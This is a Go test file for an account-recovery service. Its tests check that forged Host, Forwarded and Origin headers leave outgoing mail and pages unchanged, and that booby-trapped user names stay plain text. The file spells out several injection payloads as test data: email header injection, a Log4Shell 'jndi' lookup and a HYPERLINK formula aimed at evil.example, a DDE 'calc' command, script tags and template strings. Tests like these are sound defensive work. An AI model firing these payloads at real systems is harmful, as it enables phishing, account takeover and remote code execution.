package app

import (
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"

	"github.com/regain-id/regain/internal/account"
	"github.com/regain-id/regain/internal/event"
	"github.com/regain-id/regain/internal/method"
	"github.com/regain-id/regain/internal/testserver"
)

// forger lies to the server about where it stands.
type forger struct{ host string }

// RoundTrip sends the request with another Host.
func (f forger) RoundTrip(r *http.Request) (*http.Response, error) {
	r = r.Clone(r.Context())
	r.Host = f.host
	return http.DefaultTransport.RoundTrip(r)
}

var (
	references = regexp.MustCompile(`\b[B-Z2-9]{4}-[B-Z2-9]{4}\b`)
	tickets    = regexp.MustCompile(`/not-me\?t=[0-9a-f-]{36}\.[A-Za-z0-9_-]{43}`)
	digits8    = regexp.MustCompile(`\b[0-9]{8}\b`)
)

// plain is a letter without what differs from one to the next: code, ticket, reference, ids.
func plain(l testserver.Letter) string {
	var b strings.Builder
	for _, h := range []string{"From", "To", "Cc", "Reply-To", "Return-Path", "Subject", "Auto-Submitted", "List-Unsubscribe"} {
		b.WriteString(h + ": " + strings.Join(l.Header[h], "|") + "\n")
	}
	b.WriteString(strings.Join(l.To, "|") + "\n" + l.Text + "\n" + l.HTML)
	s := tickets.ReplaceAllString(b.String(), "/not-me?t=TICKET")
	return digits8.ReplaceAllString(references.ReplaceAllString(s, "REFE-RENC"), "CODECODE")
}

func TestForgedHostAndOriginHeadersChangeNoByteOfAnyMailOrPage(t *testing.T) {
	w := newWorld(t, scene{now: newClock().now})
	ada := w.add("ada", method.Email)
	visit := func(v *visitor) (letter string, pages string) {
		n := len(w.codes(ada.Email))
		v.asks(ada.Login, "email")
		w.mailCode(ada.Email, n+1)
		for _, path := range []string{"/", "/reset", "/choose", "/code", "/nothing-arrived", "/help", "/nowhere"} {
			s := v.get(path)
			pages += references.ReplaceAllString(regexp.MustCompile(`(?s)<p class="hint">[^<]*[A-Z2-7]{10}`).ReplaceAllString(s.HTML, ""), "") + s.Header.Get("Content-Security-Policy") + s.Header.Get("Location")
		}
		all := w.mail.Letters(ada.Email)
		return plain(all[len(all)-1]), regexp.MustCompile(`\b[A-Z2-7]{10}\b`).ReplaceAllString(pages, "")
	}
	letter, pages := visit(w.visitor())
	has(t, letter, w.base+"/not-me?t=TICKET", "CODECODE", "REFE-RENC")
	for name, headers := range map[string]map[string]string{
		"Host":                     {"Host": "evil.example"},
		"Host with a port":         {"Host": "localhost:1"},
		"X-Forwarded-Host":         {"X-Forwarded-Host": "evil.example"},
		"X-Forwarded-Server":       {"X-Forwarded-Server": "evil.example"},
		"X-Forwarded-Proto":        {"X-Forwarded-Proto": "https", "X-Forwarded-Scheme": "https", "X-Url-Scheme": "https", "Front-End-Https": "on"},
		"X-Forwarded-Port":         {"X-Forwarded-Port": "1337"},
		"X-Forwarded-Prefix":       {"X-Forwarded-Prefix": "//evil.example", "X-Script-Name": "/evil"},
		"Forwarded":                {"Forwarded": `for="[2001:db8::66]";host=evil.example;proto=https`},
		"X-Forwarded-For, left":    {"X-Forwarded-For": "203.0.113.66, 192.0.2.10"},
		"X-Original-Url":           {"X-Original-Url": "https://evil.example/reset", "X-Rewrite-Url": "/evil"},
		"X-Host":                   {"X-Host": "evil.example", "X-Original-Host": "evil.example", "X-Http-Host-Override": "evil.example"},
		"X-Real-Ip":                {"X-Real-Ip": "203.0.113.66", "True-Client-Ip": "203.0.113.66", "Cf-Connecting-Ip": "203.0.113.66", "X-Client-Ip": "203.0.113.66"},
		"Origin":                   {"Origin": "https://evil.example"},
		"Referer":                  {"Referer": "https://evil.example/?" + url.QueryEscape(w.base)},
		"X-Http-Method-Override":   {"X-Http-Method-Override": "GET"},
		"everything of it at once": {"Host": "evil.example", "X-Forwarded-Host": "evil.example", "Forwarded": "host=evil.example", "Origin": "https://evil.example", "Referer": "https://evil.example"},
	} {
		t.Run(name, func(t *testing.T) {
			v := w.visitor()
			for k, x := range headers {
				if k == "Host" {
					v.client.Transport = forger{x}
					continue
				}
				v.Header[k] = []string{x}
			}
			gotLetter, gotPages := visit(v)
			if gotLetter != letter {
				t.Errorf("got the mail\n%s\nwant\n%s", gotLetter, letter)
			}
			if gotPages != pages {
				t.Error("a page is another one")
			}
			lacks(t, gotLetter+gotPages, "evil", "1337", "203.0.113")
		})
	}
}

func TestTheNoticeOfAForgedJourneyIsTheSameLetter(t *testing.T) {
	w := newWorld(t, scene{now: newClock().now})
	ada := w.add("ada", method.Email, method.SMS)
	done := func(v *visitor, password string, n int) string {
		v.recovers(ada, password)
		eventually(t, "the notice", func() bool { return len(w.letters(ada.Login)) == n })
		return plain(w.letters(ada.Login)[n-1])
	}
	want := done(w.visitor(), fresh, 1)
	has(t, want, w.base+"/not-me?t=TICKET", "https://login.alder.example/")
	v := w.visitor()
	v.client.Transport = forger{"evil.example"}
	for _, h := range []string{"X-Forwarded-Host", "X-Host", "X-Forwarded-Server", "Referer"} {
		v.Header[h] = []string{"evil.example"}
	}
	if got := done(v, "another heron on another lake", 2); got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
}

func TestNamesFullOfTricksStayText(t *testing.T) {
	evil := []string{
		"Ada\r\nBcc: eve@evil.example\r\nX-Evil: 1", "{{.Organisation}} {{printf \"%s\" .Code}} ${jndi:ldap://evil.example/a}", `=HYPERLINK("http://evil.example";"click")`,
		`<script>alert(1)</script><a href="http://evil.example">x</a>`, "+cmd|' /C calc'!A0 @SUM(1) -2+3", "\u202egpj.eve\u202c\x00\x1b[2J", "Subject: x\n\nhello", "=?utf-8?q?Bcc=3A_eve=40evil.example?=",
	}
	w := newWorld(t, scene{change: func(s *Setup) { s.Directories[0].Claim = "emails.work" }})
	for i, name := range evil {
		uid := string(rune('a'+i)) + "da"
		t.Run(strings.ToValidUTF8(strings.NewReplacer("\r", " ", "\n", " ", "\x00", "").Replace(name), ""), func(t *testing.T) {
			p := w.add(uid, method.Email, method.SMS)
			clean := strings.ReplaceAll(name, "\x00", "") // no database keeps it
			w.change(p, func(q *account.Person, methods *[]method.Method) []event.Event {
				q.UserName, q.DisplayName, q.GivenName, q.FamilyName = uid+clean, clean, clean, clean
				for i := range *methods {
					(*methods)[i].Display = clean
				}
				return nil
			})
			v := w.visitor()
			v.Header["User-Agent"] = []string{"Mozilla/5.0 {{.Organisation}} =1+1 <b>evil.example</b> Firefox/140.0 (Linux) " + strings.Repeat("x", 2000)}
			v.Header["Accept-Language"] = []string{"{{.}}, de;q=x, <b>, ../../evil"}
			v.recovers(p, fresh+uid)
			v.post("/not-me", "token", w.srv.Flow.NotMe(v.id())).want(t, 200, "/not-me")
			for _, path := range []string{"/progress", "/help"} {
				lacks(t, v.get(path).HTML, "<script>alert", `href="http://evil`, "<b>evil")
			}
			w.drained()
			if n := len(w.mail.Letters(p.Login)); n < 2 {
				t.Errorf("%d notices at the work address, want 2", n)
			}
			for _, l := range w.mail.Letters("") {
				if len(l.To) != 1 || strings.Contains(strings.Join(l.To, ""), "evil") {
					t.Fatalf("a mail went to %v", l.To)
				}
				for _, h := range []string{"Bcc", "Cc", "X-Evil", "Reply-To"} {
					if l.Header.Get(h) != "" {
						t.Errorf("header %s: %q", h, l.Header.Get(h))
					}
				}
				head, _, _ := strings.Cut(string(l.Raw), "\r\n\r\n")
				lacks(t, head, "evil", "{{", "HYPERLINK", "jndi", "calc", "\x1b", "\x00")
				lacks(t, l.HTML, "<script", `href="http://evil`, "<b>evil", "\x1b", "\u202e")
				lacks(t, l.Text, "\nBcc:", "\nX-Evil", "\x1b", "\u202e")
				if len(l.Header["Subject"]) != 1 || len(l.Header["From"]) != 1 {
					t.Errorf("headers %v", l.Header)
				}
			}
			lacks(t, strings.Join(texts(w.sms.Texts("")), "\n"), "evil", "{{", "calc")
		})
	}
	lacks(t, w.log.String(), "evil.example", "HYPERLINK", "jndi")
}

func texts(in []testserver.Text) []string {
	var out []string
	for _, x := range in {
		out = append(out, x.Body)
	}
	return out
}
